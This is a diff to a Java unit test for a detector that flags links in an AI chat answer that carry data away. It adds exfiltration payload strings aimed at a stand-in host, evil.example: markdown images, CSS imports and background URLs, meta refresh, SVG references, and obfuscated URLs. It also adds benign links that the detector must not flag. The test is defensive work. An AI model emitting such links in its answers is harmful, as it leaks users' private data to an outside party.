@@ -111,14 +111,21 @@ final class WholeAnswerTest {
     "see https://0123456789abcdef0123456789abcdef.evil.example/",
     "![a](htt\u200bps://evil.example/?q=Bettina)", "![a](https&#58;//evil.example/?q=Bettina)",
     "![a](https://halyard.example@evil.example/?q=Bettina)",
-    "<https://evil.example/?q=cm90dGVyZGFtIHZhbHBhcmFpc28>"})
+    "<https://evil.example/?q=cm90dGVyZGFtIHZhbHBhcmFpc28>", "![a](https://evil.example/p/KX4471.png)",
+    "![a](https://kx4471.evil.example/p.png)", "![a](https://evil.example/Bettina/Rotterdam/Valparaiso.png)",
+    "<style>@import 'https://evil.example/?q=Bettina';</style>",
+    "<p style='background:url(https://evil.example/?q=Bettina)'>",
+    "<meta http-equiv='refresh' content='0;url=https://evil.example/?q=Bettina'>",
+    "<svg><use href='https://evil.example/a.svg?q=Bettina'/></svg>",
+    "<td background=https://evil.example/?q=Bettina>", "see www.evil.example/?a=Bettina&b=Rotterdam"})
   void findsLinksThatCarryDataAway(String said) {
     assertThat(breaches(denying(Breach.LINKS), chat(said))).containsExactly(Breach.LINKS);
   }
 
   @ParameterizedTest
   @ValueSource(strings = {"![a](https://img.halyard.example/p.png?d=Bettina)",
-    "![a](https://upload.example/ship.png)",
+    "![a](https://upload.example/ship.png)", "![a](https://upload.example/rotterdam-harbour-2026.png)",
+    "ask www.port.example/rotterdam", "newww.port.example/?a=Bettina&b=Rotterdam",
     "[docs](https://docs.example/guides/how-to-book-a-container-from-rotterdam-to-valparaiso)",
     "https://shop.example/?utm_source=chat&utm_medium=link",
     "[b](https://news.example/2026/11/port-strike-ends#top)",
